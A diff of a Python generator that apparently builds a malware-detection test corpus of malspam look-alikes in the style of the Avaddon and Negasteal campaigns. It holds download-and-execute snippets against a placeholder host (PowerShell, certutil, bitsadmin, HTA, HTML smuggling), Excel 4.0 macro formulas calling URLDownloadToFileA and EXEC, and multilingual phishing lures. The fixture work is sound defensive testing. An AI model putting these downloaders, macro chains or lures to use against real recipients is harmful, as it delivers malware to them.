@@ -32,6 +32,10 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, HERE)
 sys.path.insert(1, os.path.join(HERE, "..", "samples"))
 import formats as F  # noqa: E402
+from payloads import (equation_hex, hta_downloader, js_downloader, rtf_equation,  # noqa: E402
+                      smuggling_html, vbs_downloader)
+from texts import (AVADDON_SUBJECTS, AVADDON_SUBJECTS_INTL, BOT, FILE_WORD, LURE_KIND,  # noqa: E402
+                   LURES, NEWSLETTER, PLAIN, RCPT, SENDERS, SMILEYS, WEBDEV_JS, ics)
 
 try:
     import mkoffice  # noqa: E402
@@ -135,235 +139,7 @@ class Corpus:
                 fh.write("\t".join(row) + "\n")
 
 
-# ---------------------------------------------------------------- people
-
-
-SENDERS = ["Anna Keller <anna.keller@example.com>", "Pierre Martin <p.martin@fr.example.com>",
-           "Lucía Gómez <lucia.gomez@es.example.com>", "Marco Rossi <m.rossi@it.example.com>",
-           "佐藤 健 <k.sato@jp.example.com>", "王 芳 <wang.fang@cn.example.com>",
-           "Ольга Смирнова <o.smirnova@ru.example.com>", "Ahmet Yılmaz <ahmet@tr.example.com>",
-           "Accounts <accounts@supplier.example.com>", "Sales Team <sales@vendor.example.com>"]
-RCPT = "Purchasing <purchasing@example.com>"
-BOT = ["Jenny <jenny%d@bot.example.invalid>", "Mike <mike%d@mail.example.invalid>",
-       "<user%d@dyn.example.invalid>", "Kate <k%d@example.invalid>"]
-
-
-# ---------------------------------------------------------------- inert payloads
-
-
-def js_downloader(rng, style):
-    """A comment-only JScript look-alike of the Avaddon downloader, in STYLE."""
-    tmp = "".join(str(rng.randrange(10)) for _ in range(9))
-    body = {
-        "plain": ("var sh = WScript.CreateObject(\"WScript.Shell\");\n"
-                  "sh.Run(\"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile("
-                  "'http://cdn.example.invalid/%s.exe', $env:TEMP + '\\\\%s.exe')\");\n"
-                  "sh.Run(\"bitsadmin /transfer j http://cdn.example.invalid/%s.exe %%TEMP%%\\\\%s.exe\");\n"
-                  % (tmp, tmp, tmp, tmp)),
-        "split": ("var a = \"WScr\" + \"ipt.Sh\" + \"ell\", b = \"pow\" + \"ersh\" + \"ell\";\n"
-                  "var o = new ActiveXObject(a); o[\"R\" + \"un\"](b + \" -enc \" + payload);\n"
-                  "// payload fetches http://cdn.example.invalid/%s.bin into GetSpecialFolder(2)\n" % tmp),
-        "charcode": ("var k = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);\n"
-                     "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", "
-                     "\"http://cdn.example.invalid/%s\", false);\n"
-                     "var s = new ActiveXObject(\"ADODB.Stream\"); s.SaveToFile(tmp + \"\\\\%s.exe\");\n"
-                     "eval(\"new ActiveXObject(k).Run(tmp)\");\n" % (tmp, tmp)),
-        "certutil": ("var w = new ActiveXObject(\"WScript.Shell\");\n"
-                     "w.Run(\"certutil -urlcache -split -f http://cdn.example.invalid/%s.txt "
-                     "%%TEMP%%\\\\%s.txt && certutil -decode %%TEMP%%\\\\%s.txt %%TEMP%%\\\\%s.exe\");\n"
-                     % (tmp, tmp, tmp, tmp)),
-    }[style]
-    return ("// %s: comments only, nothing runs\n/*\n%s*/\n" % (MARK, body)).encode()
-
-
-def vbs_downloader(rng):
-    tmp = "".join(str(rng.randrange(10)) for _ in range(8))
-    return ("' %s: comments only, nothing runs\n"
-            "' Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", "
-            "\"http://cdn.example.invalid/%s.exe\", False\n"
-            "' Set s = CreateObject(\"ADODB.Stream\") : s.SaveToFile "
-            "CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\%s.exe\"\n"
-            "' CreateObject(\"WScript.Shell\").Run \"%%TEMP%%\\%s.exe\"\n" % (MARK, tmp, tmp, tmp)).encode()
-
-
-def hta_downloader():
-    return ("<html><head><!-- %s --><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"/>"
-            "</head><body><script language=\"VBScript\">\n"
-            "' CreateObject(\"WScript.Shell\").Run \"powershell -c IEX (New-Object Net.WebClient)"
-            ".DownloadString('http://cdn.example.invalid/s.ps1')\"\n"
-            "</script></body></html>\n" % MARK).encode()
-
-
-STUB_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
-
-
-def smuggling_html(rng, idiom, payload_b64=None):
-    """An HTML page that would rebuild a file from base64 in the browser (inert: the
-    click is commented out and the payload is a stub)."""
-    p = payload_b64 or (STUB_B64 + "A" * (8 * rng.randrange(60, 90)))
-    name = "Remittance_%s.iso" % "".join(str(rng.randrange(10)) for _ in range(5))
-    js = {
-        "atob-blob": ("var b = atob(\"%s\"), u = new Uint8Array(b.length);\n"
-                      "for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);\n"
-                      "var a = document.createElement(\"a\");\n"
-                      "a.href = URL.createObjectURL(new Blob([u], {type: \"application/octet-stream\"}));\n"
-                      "a.download = \"%s\"; /* a.click(); */\n" % (p, name)),
-        "mssave": ("var d = window.atob('%s');\nvar arr = new Uint8Array(d.length);\n"
-                   "for (var j = 0; j < d.length; j++) { arr[j] = d.charCodeAt(j); }\n"
-                   "var blob = new Blob([arr]);\n"
-                   "if (window.navigator.msSaveOrOpenBlob) { /* window.navigator.msSaveOrOpenBlob"
-                   "(blob, '%s'); */ }\n" % (p, name)),
-        "uint8-from": ("const data = Uint8Array.from(atob(`%s`), c => c.charCodeAt(0));\n"
-                       "const f = new File([data], '%s', {type: 'application/x-iso9660-image'});\n"
-                       "const link = document.createElement('a');\n"
-                       "link.setAttribute('href', window.URL.createObjectURL(f));\n"
-                       "link.setAttribute('download', f.name);\n"
-                       "// link.dispatchEvent(new MouseEvent('click'));\n" % (p, name)),
-        "fetch-data": ("fetch('data:application/octet-stream;base64,%s')\n"
-                       "  .then(r => r.blob())\n  .then(b => { const u = URL.createObjectURL(b);\n"
-                       "    const e = document.getElementById('dl'); e.href = u; e.download = '%s';\n"
-                       "    /* e.click(); */ });\n" % (p, name)),
-        "reversed": ("var s = document.getElementById('d').textContent.split('').reverse().join('');\n"
-                     "var raw = self['at' + 'ob'](s), n = raw.length, buf = new Uint8Array(n);\n"
-                     "while (n--) buf[n] = raw.charCodeAt(n);\n"
-                     "var url = URL['createObj' + 'ectURL'](new Blob([buf.buffer]));\n"
-                     "var l = document.createElement('a'); l.href = url; l['down' + 'load'] = '%s';\n"
-                     "document.body.appendChild(l); // l.click();\n" % name),
-    }[idiom]
-    hidden = ""
-    if idiom == "reversed":
-        hidden = "<div id=\"d\" style=\"display:none\">%s</div>\n" % p[::-1]
-    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title></head>\n"
-            "<body><!-- %s -->\n<p>Loading your document, please wait...</p>\n"
-            "<a id=\"dl\"></a>\n%s<script>\n%s</script></body></html>\n" % (MARK, hidden, js)).encode()
-
-
-def equation_hex():
-    """OLE1 header naming Equation.3 and a CFB start with the Equation CLSID, as hex."""
-    cls = b"Equation.3\0"
-    data = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + bytes.fromhex("3e000300feff0900")
-            + b"\0" * 40 + "Root Entry".encode("utf-16-le") + b"\0" * 44
-            + bytes.fromhex("02ce020000000000c000000000000046") + b"\0" * 64
-            + MARK.encode())
-    ole1 = (bytes.fromhex("01050000") + bytes.fromhex("02000000") + len(cls).to_bytes(4, "little")
-            + cls + b"\0" * 8 + len(data).to_bytes(4, "little") + data)
-    return ole1.hex()
-
-
-def rtf_equation(rng, style, lure_lines):
-    """An RTF with an Equation Editor object written in STYLE."""
-    h = equation_hex()
-    head = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}"
-    cls = "{\\*\\objclass Equation.3}"
-    text = "".join(F.rtf_escape(line) + "\\par\n" for line in lure_lines)
-    if style == "tidy":
-        obj = h
-    elif style == "newlines":
-        obj = "\n".join(h[i:i + rng.choice([32, 48, 64, 76])] for i in range(0, len(h), 64))
-    elif style == "spaces-upper":
-        obj = " ".join(h[i:i + 2] for i in range(0, len(h), 2)).upper()
-    elif style == "control-words":
-        parts = []
-        for i in range(0, len(h), 2):
-            parts.append(h[i:i + 2])
-            if rng.randrange(6) == 0:
-                parts.append(rng.choice(["{\\*\\mvx}", "\\'0d", " \r\n", "{\\*\\panose 0}", "\t"]))
-        obj = "".join(parts).replace("\\'0d", "")
-        cls = ""
-    elif style == "late":
-        obj = h
-        text += "".join("Clause %d. Delivery, payment and warranty terms apply as agreed in the "
-                        "framework contract between the parties.\\par\n" % i for i in range(1, 70))
-    elif style == "no-rtf1":
-        head = "{\\rtvpn\\ansi"
-        obj = h
-    else:
-        raise ValueError(style)
-    return ("%s\\f0\\fs20 %s%s\\par\n{\\object\\objemb\\objupdate%s\\objw380\\objh260"
-            "{\\*\\objdata %s}{\\result {\\pict\\wmetafile8 0100}}}}\n" % (head, text, MARK, cls, obj)).encode()
-
-
-# ---------------------------------------------------------------- lures by language
-
-
-# lang: (invoice, PO, payment, shipping, quotation) subjects; body; password word; signature
-LURES = {
-    "en": (["Invoice INV-{n} overdue", "New purchase order PO#{n}", "Payment advice - remittance {n}",
-            "DHL Shipment Notification AWB {n}", "Request for quotation RFQ-{n}"],
-           "Dear Sir/Madam,\n\nPlease find attached the documents for our reference {n}. Kindly "
-           "confirm receipt and revert with your best price and delivery time.\n",
-           "Password", "Best regards,\nJohn Carter\nProcurement Manager\nGlobal Trading Ltd."),
-    "de": (["Rechnung Nr. {n} - Zahlungserinnerung", "Bestellung {n} - bitte bestätigen",
-            "Zahlungsavis {n}", "Ihre Sendung {n}: Lieferschein und Frachtbrief",
-            "Angebotsanfrage {n}"],
-           "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie die Unterlagen zu Vorgang {n}. "
-           "Bitte prüfen Sie die Anlage und bestätigen Sie den Eingang.\n",
-           "Passwort", "Mit freundlichen Grüßen\nKlaus Becker\nEinkauf"),
-    "fr": (["Facture n° {n} impayée", "Bon de commande {n}", "Avis de paiement {n}",
-            "Avis d'expédition - connaissement {n}", "Demande de devis {n}"],
-           "Bonjour,\n\nVeuillez trouver ci-joint les documents relatifs au dossier {n}. "
-           "Merci de confirmer la bonne réception.\n",
-           "Mot de passe", "Cordialement,\nSophie Laurent\nService comptabilité"),
-    "es": (["Factura {n} pendiente de pago", "Orden de compra {n}", "Comprobante de transferencia {n}",
-            "Aviso de envío - conocimiento de embarque {n}", "Solicitud de cotización {n}"],
-           "Estimado cliente,\n\nAdjunto le enviamos la documentación de la operación {n}. "
-           "Por favor, confirme la recepción.\n",
-           "Contraseña", "Saludos cordiales,\nJavier Ruiz\nDepartamento de compras"),
-    "it": (["Fattura n. {n} scaduta", "Ordine d'acquisto {n}", "Contabile bonifico {n}",
-            "Avviso di spedizione {n}", "Richiesta di preventivo {n}"],
-           "Gentile cliente,\n\nin allegato trova la documentazione relativa alla pratica {n}. "
-           "La preghiamo di confermare la ricezione.\n",
-           "Password", "Cordiali saluti,\nGiulia Bianchi\nUfficio amministrazione"),
-    "pt": (["Fatura {n} em atraso", "Pedido de compra {n}", "Comprovante de pagamento {n}",
-            "Aviso de embarque {n}", "Pedido de cotação {n}"],
-           "Prezados,\n\nSegue em anexo a documentação referente ao processo {n}. "
-           "Favor confirmar o recebimento.\n",
-           "Senha", "Atenciosamente,\nRicardo Souza\nCompras"),
-    "ja": (["請求書 {n} のご送付", "注文書 {n} の件", "お支払い明細 {n}", "荷物の配送に関するお知らせ {n}",
-            "見積依頼 {n}"],
-           "お世話になっております。\n\n案件 {n} の書類を添付いたします。ご確認のほどよろしくお願いいたします。\n",
-           "パスワード", "よろしくお願いいたします。\n山田 太郎\n購買部"),
-    "zh": (["发票 {n} 请查收", "采购订单 {n}", "付款通知 {n}", "发货通知 提单 {n}", "询价单 {n}"],
-           "您好，\n\n附件是编号 {n} 的相关文件，请查收并确认。\n",
-           "密码", "此致\n敬礼\n李明\n采购部"),
-    "ru": (["Счёт на оплату № {n}", "Заказ на поставку {n}", "Платёжное поручение {n}",
-            "Уведомление об отгрузке {n}", "Запрос коммерческого предложения {n}"],
-           "Добрый день,\n\nво вложении документы по заявке {n}. Просим подтвердить получение.\n",
-           "Пароль", "С уважением,\nИгорь Петров\nОтдел закупок"),
-    "tr": (["Fatura {n} ödeme hatırlatması", "Satın alma siparişi {n}", "Ödeme dekontu {n}",
-            "Sevkiyat bildirimi {n}", "Fiyat teklifi talebi {n}"],
-           "Merhaba,\n\n{n} numaralı işleme ait belgeler ektedir. Lütfen kontrol ediniz.\n",
-           "Şifre", "Saygılarımızla,\nMehmet Demir\nSatın Alma"),
-    "pl": (["Faktura nr {n} - przypomnienie", "Zamówienie {n}", "Potwierdzenie przelewu {n}",
-            "Awizo dostawy {n}", "Zapytanie ofertowe {n}"],
-           "Dzień dobry,\n\nw załączeniu przesyłamy dokumenty do sprawy {n}. Prosimy o potwierdzenie.\n",
-           "Hasło", "Z poważaniem,\nAnna Nowak\nDział zakupów"),
-    "nl": (["Factuur {n} openstaand", "Inkooporder {n}", "Betalingsbewijs {n}",
-            "Verzendbevestiging {n}", "Offerteaanvraag {n}"],
-           "Geachte heer/mevrouw,\n\nIn de bijlage vindt u de documenten voor dossier {n}. "
-           "Graag bevestiging van ontvangst.\n",
-           "Wachtwoord", "Met vriendelijke groet,\nPieter de Vries\nInkoop"),
-}
-LURE_KIND = {"invoice": 0, "po": 1, "payment": 2, "shipping": 3, "quote": 4}
-FILE_WORD = {"invoice": ["Invoice", "Rechnung", "Facture", "Factura", "INV"],
-             "po": ["PO", "Purchase_Order", "Bestellung", "Order", "Pedido"],
-             "payment": ["Payment_Advice", "Remittance", "SWIFT_Copy", "TT_Copy", "Zahlungsavis"],
-             "shipping": ["Shipping_Documents", "BL_Draft", "AWB", "Packing_List", "DHL_Receipt"],
-             "quote": ["RFQ", "Quotation", "Angebot", "Devis", "Cotizacion"]}
-
-
 # ---------------------------------------------------------------- campaign look-alikes
-
-
-AVADDON_SUBJECTS = ["Look at this photo!", "Photo just for you", "You look good here",
-                    "I love this photo", "Is this your photo?", "Is this you?",
-                    "My favourite photo", "You like this photo?", "Your new photo?",
-                    "Do you like my photo?", "\U0001F609", ";)"]
-AVADDON_SUBJECTS_INTL = ["Ist das dein Foto?", "C'est toi sur cette photo ?",
-                         "¿Eres tú en esta foto?", "Sei tu in questa foto?", "Это ты на фото?",
-                         "これはあなたの写真ですか？", "Is dit jouw foto?", "To ty na tym zdjęciu?",
-                         "check this pic lol", "haha look at you here"]
-SMILEYS = [";)", ":)", ";-)", ":-)", "\U0001F609", "\U0001F60A", ":D", "^_^", ";)\n"]
 
 
 def avaddon(c):
@@ -600,159 +376,66 @@ def office_campaign(c):
     ]
     kinds = [("docm", 0, "invoice", "en"), ("xlsm", 1, "po", "de"), ("docm", 2, "payment", "fr"),
              ("xlam", 3, "quote", "es"), ("ppam", 3, "po", "it"), ("pptm", 0, "shipping", "pt"),
-             ("doc", 2, "invoice", "ru"), ("xls-vba", 1, "payment", "tr")]
+             ("doc", 2, "invoice", "ru"), ("xlsm", 3, "payment", "tr"), ("doc", 0, "quote", "pl")]
     for kind, v, lure, lang in kinds:
         subjects, body, _, sig = LURES[lang]
         n = c.digits(6)
         entry, src = vba[v]
-        src = src % (MARK, url % n)
-        mods = {"Module1" if kind not in ("docm", "doc") else "ThisDocument": src}
+        src = (src % (MARK, url % n)).replace("\n", "\r\n")
+        mods = {"ThisDocument" if kind in ("docm", "doc") else
+                "ThisWorkbook" if kind == "xlsm" and v == 1 else "Module1": src}
         if kind == "doc":
-            data, ext = mkoffice.ole_doc_with_vba(mods), "doc"
-        elif kind == "xls-vba":
-            data, ext = mkoffice.ole_doc_with_vba(mods), "xls"
+            data = mkoffice.ole_doc_with_vba(mods)
         else:
-            data, ext = mkoffice.ooxml_with_vba(kind, mods), kind
-        name = "%s_%s.%s" % (rng.choice(FILE_WORD[lure]), n, ext)
-        c.add("campaign", "negasteal-office-macro", "%s %s + fetch + execute (%s)" % (ext, entry, lang),
-              c.mail(subjects[LURE_KIND[lure]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
-                     rng.choice(SENDERS), RCPT, atts=[(name, data)]))
+            data = mkoffice.ooxml_with_vba(kind, mods)
+        name = "%s_%s.%s" % (rng.choice(FILE_WORD[lure]), n, kind)
+        atts = [(name, data)]
+        trick = "%s %s + fetch + execute (%s)" % (kind, entry, lang)
+        if lang in ("pt", "pl"):
+            atts = [("%s_%s.zip" % (FILE_WORD[lure][0], n), F.zip_archive([(name, data)]))]
+            trick += ", in a zip"
+        c.add("campaign", "negasteal-addin" if kind in ("xlam", "ppam") else "negasteal-office-macro",
+              trick, c.mail(subjects[LURE_KIND[lure]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                            rng.choice(SENDERS), RCPT, atts=atts))
     xlm = [
-        ["=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"%s\",\"c:\\users\\public\\a.dll\",0,0)",
-         "=EXEC(\"rundll32 c:\\users\\public\\a.dll,DllRegisterServer\")", "=HALT()"],
-        ["=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Dl\",,1,9)",
-         "=Dl(0,\"%s\",\"c:\\programdata\\b.exe\",0,0)", "=EXEC(\"c:\\programdata\\b.exe\")", "=HALT()"],
-        ["=FORMULA.FILL(\"=EXEC(\"\"powershell -c iwr %s -o b.exe\"\")\",R2C1)", "=RUN(R2C1)",
-         "=HALT()"],
+        ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"%s","c:\\users\\public\\a.dll",0,0)',
+         'EXEC("rundll32 c:\\users\\public\\a.dll,DllRegisterServer")', "HALT()"],
+        ['REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Dl",1,9)',
+         'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"%s","c:\\programdata\\b.exe",0,0)',
+         'EXEC("c:\\programdata\\b.exe")', "HALT()"],
+        ['FORMULA.FILL("=EXEC(""powershell -c iwr %s -o b.exe"")","R2C1")', 'RUN("R2C1")', "HALT()"],
     ]
     for i, (subj, lang, packing) in enumerate([
             ("Notifica ufficiale - Ispettorato del Lavoro", "it", "zip"),
             ("Avviso di violazione n. {n}", "it", "xls"),
-            ("Fattura {n} - sollecito", "it", "zip"),
-            ("Offizielle Mitteilung {n}", "de", "xls")]):
+            ("Fattura {n} - sollecito", "it", "xlsm"),
+            ("Offizielle Mitteilung {n}", "de", "xls"),
+            ("Official notice {n} - penalty", "en", "zip-xlsm")]):
         n = c.digits(6)
         f = [x.replace("%s", url % n) for x in xlm[i % 3]]
-        data = mkoffice.xls_with_xlm(f)
-        xname = "Notifica_%s.xls" % n if lang == "it" else "Mitteilung_%s.xls" % n
-        atts = [(xname, data)] if packing == "xls" else [
+        if packing.endswith("xlsm"):
+            data, ext = mkoffice.xlsm_with_xlm(f), "xlsm"
+        else:
+            data, ext = mkoffice.xls_with_xlm(f), "xls"
+        xname = "%s_%s.%s" % ({"it": "Notifica", "de": "Mitteilung"}.get(lang, "Notice"), n, ext)
+        atts = [(xname, data)] if packing in ("xls", "xlsm") else [
             ("Official notification %s.zip" % n, F.zip_archive([(xname, data)]))]
-        c.add("campaign", "avaddon-xlm", "Excel 4.0 macro sheet (%s) in %s (%s)"
-              % (f[0].split("(")[0], packing, lang),
-              c.mail(subj.format(n=n), "Gentile contribuente,\n\nin allegato la notifica. Si prega di "
-                     "prendere visione entro 48 ore per evitare sanzioni.\n" if lang == "it" else
-                     "Sehr geehrte Damen und Herren,\n\nanbei die Mitteilung.\n",
-                     rng.choice(BOT) % rng.randrange(100, 999), RCPT, atts=atts))
+        text = {"it": "Gentile contribuente,\n\nin allegato la notifica. Si prega di prendere visione "
+                      "entro 48 ore per evitare sanzioni.\n",
+                "de": "Sehr geehrte Damen und Herren,\n\nanbei die Mitteilung.\n",
+                "en": "Dear taxpayer,\n\nplease review the attached notice within 48 hours.\n"}[lang]
+        c.add("campaign", "avaddon-xlm", "Excel 4.0 macro sheet (%s) in %s, %s (%s)"
+              % (f[0].split("(")[0], ext, "in a zip" if packing.startswith("zip") else "attached", lang),
+              c.mail(subj.format(n=n), text, rng.choice(BOT) % rng.randrange(100, 999), RCPT, atts=atts))
     n = c.digits(5)
-    rtf = mkoffice.rtf_with_object("Equation.3", bytes.fromhex(equation_hex()), True)
-    c.add("campaign", "negasteal-rtf-equation", "mkoffice obfuscated RTF Equation object (en)",
+    rtf = mkoffice.rtf_with_object("Equation.3", obfuscate=True, pad=6000)
+    c.add("campaign", "negasteal-rtf-equation",
+          "RTF Equation Editor object, hex broken and past 6 KB of text, named .doc (en)",
           c.mail("Quotation request %s" % n, LURES["en"][1].format(n=n), rng.choice(SENDERS), RCPT,
                  atts=[("Quotation_%s.doc" % n, rtf)]))
 
 
 # ---------------------------------------------------------------- ordinary mail
-
-
-PLAIN = [
-    ("en", "Meeting notes from Tuesday", "Hi all,\n\nthanks for joining on Tuesday. Action items:\n"
-     "- Anna updates the rollout plan\n- Marco checks the budget figures\n\nSee you next week,\nTom\n"),
-    ("en", "Re: Q3 budget review", "Sounds good to me. I moved the review to Thursday 10:00.\n\nTom\n"),
-    ("de", "Termin nächste Woche", "Hallo Frau Keller,\n\nwir würden uns gern am Mittwoch um 14 Uhr "
-     "treffen. Passt Ihnen das?\n\nViele Grüße\nJörg Weiß\n"),
-    ("de", "Protokoll der Teamsitzung", "Hallo zusammen,\n\nanbei die wichtigsten Punkte: Umzug der "
-     "Server im Juli, Urlaubsplanung bis Freitag.\n\nGruß\nSabine\n"),
-    ("fr", "Réunion de lancement", "Bonjour à tous,\n\nla réunion de lancement du projet aura lieu "
-     "lundi à 9h30 en salle Voltaire.\n\nBien à vous,\nCamille\n"),
-    ("fr", "Congés d'été", "Bonjour,\n\nmerci d'indiquer vos dates de congés avant le 15 juin.\n\nÉlise\n"),
-    ("es", "Reunión del equipo", "Hola a todos,\n\nos recuerdo que mañana tenemos la reunión "
-     "trimestral a las 11:00.\n\nUn saludo,\nMarta\n"),
-    ("es", "Cambio de horario", "Buenos días,\n\na partir del lunes la oficina abre a las 8:00.\n\nJosé\n"),
-    ("it", "Riunione di progetto", "Ciao a tutti,\n\nla riunione di progetto è spostata a giovedì "
-     "alle 15.\n\nGrazie,\nFrancesca\n"),
-    ("pt", "Relatório mensal", "Olá equipe,\n\no relatório mensal já está disponível na pasta "
-     "compartilhada.\n\nAbraços,\nCarla\n"),
-    ("nl", "Vergadering verplaatst", "Hoi allemaal,\n\nde vergadering van vrijdag is verplaatst naar "
-     "maandag 10 uur.\n\nGroet,\nDaan\n"),
-    ("pl", "Spotkanie zespołu", "Cześć,\n\nspotkanie zespołu odbędzie się w środę o 13:00.\n\nKasia\n"),
-    ("ja", "来週の打ち合わせについて", "お疲れさまです。\n\n来週の打ち合わせは水曜日の10時からに変更となりました。"
-     "\n会議室は3階の第2会議室です。\n\n田中\n"),
-    ("ja", "議事録の送付", "各位\n\n先日の会議の議事録をお送りします。ご確認ください。\n\n鈴木\n"),
-    ("zh", "下周会议安排", "大家好，\n\n下周二上午十点在三楼会议室开项目例会，请准时参加。\n\n谢谢！\n张伟\n"),
-    ("zh", "季度总结", "各位同事：\n\n请在本周五之前提交季度工作总结。\n\n王芳\n"),
-    ("ru", "Встреча в четверг", "Коллеги, добрый день!\n\nНапоминаю, что в четверг в 11:00 "
-     "совещание по проекту.\n\nС уважением,\nАлексей\n"),
-    ("ru", "График отпусков", "Добрый день,\n\nпросьба до пятницы согласовать график отпусков.\n\nМарина\n"),
-    ("ar", "اجتماع الفريق", "مرحباً بالجميع،\n\nسيعقد اجتماع الفريق يوم الأحد الساعة العاشرة صباحاً.\n\n"
-     "مع التحية،\nأحمد\n"),
-    ("ar", "تقرير المبيعات", "السلام عليكم،\n\nمرفق تقرير المبيعات الشهري للاطلاع.\n\nفاطمة\n"),
-    ("he", "פגישת צוות", "שלום לכולם,\n\nפגישת הצוות תתקיים ביום שני בשעה 10:00.\n\nתודה,\nדנה\n"),
-    ("he", "עדכון פרויקט", "היי,\n\nמצרף עדכון קצר על התקדמות הפרויקט.\n\nיוסי\n"),
-    ("ko", "주간 회의 안내", "안녕하세요,\n\n이번 주 회의는 목요일 오후 2시에 진행됩니다.\n\n김민수 드림\n"),
-    ("el", "Συνάντηση ομάδας", "Καλημέρα σας,\n\nη συνάντηση της ομάδας θα γίνει την Τρίτη στις 10.\n\n"
-     "Νίκος\n"),
-    ("tr", "Toplantı hatırlatma", "Merhaba,\n\nyarınki toplantı saat 14:00'te başlayacaktır.\n\nAyşe\n"),
-    ("hi", "टीम मीटिंग", "नमस्ते,\n\nकल सुबह दस बजे टीम मीटिंग है।\n\nधन्यवाद,\nराहुल\n"),
-    ("en", "Lunch on Friday?", "Hey, are you free for lunch on Friday? The new place near the station "
-     "is supposed to be good :)\n\nSam\n"),
-    ("en", "Password reset policy", "Hi team,\n\nreminder: the password policy changes next month; "
-     "you will be asked to choose a new password at your next login. IT will never ask for your "
-     "password by mail.\n\nIT Service Desk\n"),
-]
-
-NEWSLETTER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{t}</title>
-<style>body{{font-family:Arial}} .btn{{background:#06c;color:#fff;padding:8px}}</style></head>
-<body><table width="600" align="center"><tr><td>
-<h1>{t}</h1><p>{p}</p>
-<p><a class="btn" href="https://news.example.com/{slug}?utm_source=newsletter">{cta}</a></p>
-<img src="https://news.example.com/img/{slug}.png" alt="" width="600">
-<script type="application/ld+json">{{"@context":"https://schema.example.com","@type":"Organization"}}</script>
-<p style="font-size:11px">You receive this mail because you subscribed at news.example.com.
-<a href="https://news.example.com/unsubscribe">Unsubscribe</a></p>
-</td></tr></table></body></html>"""
-
-WEBDEV_JS = """/* ajax.js - small XMLHttpRequest wrapper used by the intranet pages.
- * INERT-TEST-FIXTURE
- * Falls back to the ActiveX object on old Internet Explorer versions.
- */
-function createRequest() {
-  if (window.XMLHttpRequest) {
-    return new XMLHttpRequest();
-  }
-  try {
-    return new ActiveXObject("MSXML2.XMLHTTP");
-  } catch (e) {
-    return new ActiveXObject("Microsoft.XMLHTTP");
-  }
-}
-
-function getJSON(url, done) {
-  var req = createRequest();
-  req.open("GET", url, true);
-  req.onreadystatechange = function () {
-    if (req.readyState === 4 && req.status === 200) {
-      done(JSON.parse(req.responseText));
-    }
-  };
-  req.send(null);
-}
-
-function download(rows) {
-  var csv = rows.map(function (r) { return r.join(";"); }).join("\\n");
-  var blob = new Blob([csv], {type: "text/csv"});
-  var a = document.createElement("a");
-  a.href = URL.createObjectURL(blob);
-  a.download = "report.csv";
-  a.click();
-}
-"""
-
-
-def ics(summary, uid, when, lang_desc):
-    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Calendar 1.0//EN\r\nMETHOD:REQUEST\r\n"
-            "BEGIN:VEVENT\r\nUID:%s@example.com\r\nDTSTAMP:20200601T080000Z\r\nDTSTART:%s\r\n"
-            "DTEND:%s\r\nSUMMARY:%s\r\nDESCRIPTION:%s %s\r\nLOCATION:Room 2.14\r\n"
-            "ORGANIZER;CN=Anna Keller:mailto:anna.keller@example.com\r\n"
-            "ATTENDEE;RSVP=TRUE:mailto:team@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
-            % (uid, when, when[:-5] + "3000Z", summary, lang_desc, MARK))
 
 
 def clean(c):
@@ -965,10 +648,12 @@ def clean(c):
                   c.mail(subj, "Hi,\n\nthe %s is attached; enable macros for the formatting button.\n\nControlling\n"
                          % kind, "Controlling <controlling@example.com>", team,
                          atts=[("%s.%s" % (subj.replace(" ", "_"), kind), mkoffice.ooxml_with_vba(kind, mods))]))
-        c.add("clean", "legit-macro", "legacy .xls with a formatting macro",
-              c.mail("Old budget sheet", "The old budget sheet, still with its macro.\n",
+        tidy = ("Sub TidyDocument()\r\n  ' %s\r\n  ActiveDocument.Range.Font.Name = \"Arial\"\r\n"
+                "  ActiveDocument.Range.ParagraphFormat.SpaceAfter = 6\r\nEnd Sub\r\n" % MARK)
+        c.add("clean", "legit-macro", "legacy Word .doc with a formatting macro",
+              c.mail("Old letter template", "The old letter template, still with its macro.\n",
                      "Controlling <controlling@example.com>", team,
-                     atts=[("budget_2019.xls", mkoffice.ole_doc_with_vba({"Module1": fmt}))]))
+                     atts=[("letter_2019.doc", mkoffice.ole_doc_with_vba({"Module1": tidy}))]))
 
 
 def build(seed):
